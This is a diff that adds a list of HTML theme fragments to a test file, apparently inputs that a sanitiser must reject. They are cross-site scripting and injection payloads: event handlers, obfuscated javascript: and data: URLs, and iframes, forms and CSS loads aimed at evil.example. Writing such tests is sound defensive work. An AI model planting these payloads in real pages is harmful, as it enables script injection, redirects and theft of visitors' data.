@@ -91,3 +91,28 @@ WORDS = [
     "CON: <b>",
     "-",
 ]
+
+# Fragments of a theme that must be refused: the file, and what it tries.
+FRAGMENTS = [
+    ("foot.html", f"<footer>{SCRIPT}</footer>"),
+    ("foot.html", f'<footer onclick="{RUN}">a</footer>'),
+    ("foot.html", f'<footer><img src="x" onerror="{RUN}" alt=""></footer>'),
+    ("foot.html", f'<footer><a href="javascript:{RUN}">a</a></footer>'),
+    ("foot.html", f'<footer><a href="java&#115;cript:{RUN}">a</a></footer>'),
+    ("foot.html", f'<footer><a href="java&Tab;script:{RUN}">a</a></footer>'),
+    ("foot.html", f'<footer><a href="data:text/html,{RUN}">a</a></footer>'),
+    ("foot.html", '<footer><a href="{newsroom}">a</a></footer>'),
+    ("foot.html", "<footer><a href={home}>a</a></footer>"),
+    ("foot.html", '<footer><iframe src="https://evil.example/"></iframe></footer>'),
+    ("foot.html", '<footer><form action="https://evil.example/"><input name="a"></form></footer>'),
+    ("foot.html", f'<footer><svg onload="{RUN}"></svg></footer>'),
+    ("foot.html", "<footer><style>@import url(https://evil.example/);</style></footer>"),
+    ("foot.html", '<footer><p style="background: url(https://evil.example/)">a</p></footer>'),
+    ("foot.html", "<footer><!-- {newsroom} --></footer>"),
+    ("foot.html", "<footer></div></footer>"),
+    ("foot.html", "<footer><p>"),
+    ("head.html", '<meta name="viewport" content="width=device-width">'
+     f'<meta http-equiv="refresh" content="0;url={EVIL}">'),
+    ("head.html", f'<base href="{EVIL}">'),
+    ("head.html", f"<title>a</title>{SCRIPT}"),
+]
